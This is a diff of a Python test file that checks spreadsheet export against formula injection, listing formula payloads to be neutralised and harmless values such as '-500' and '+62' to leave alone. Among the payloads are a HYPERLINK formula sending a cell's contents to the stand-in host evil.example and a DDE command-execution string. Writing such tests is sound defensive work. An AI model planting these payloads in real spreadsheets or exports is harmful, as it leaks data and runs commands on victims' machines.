@@ -13,8 +13,8 @@ from tests import world
 
 FORMULAS = [
     "=1+1",
-    "+1",
-    "-1",
+    "+1+1",
+    "-A1",
     "@SUM(A1)",
     '=HYPERLINK("http://evil.example?"&A1,"click")',
     "=cmd|' /C calc'!A0",
@@ -29,7 +29,20 @@ FORMULAS = [
     "''=1+1",
     '"=1+1"',
 ]
-HARMLESS = ["Ana", "O'Brien", "'t Hooft", "a=b", "ana@acme.example", "", "'", "Ána Łoś", "1"]
+HARMLESS = [
+    "Ana",
+    "O'Brien",
+    "'t Hooft",
+    "a=b",
+    "ana@acme.example",
+    "",
+    "'",
+    "Ána Łoś",
+    "1",
+    "-500",
+    "+62",
+    "-1.5",
+]
 
 
 def rows(organisation: Organisation) -> list[list[str]]:
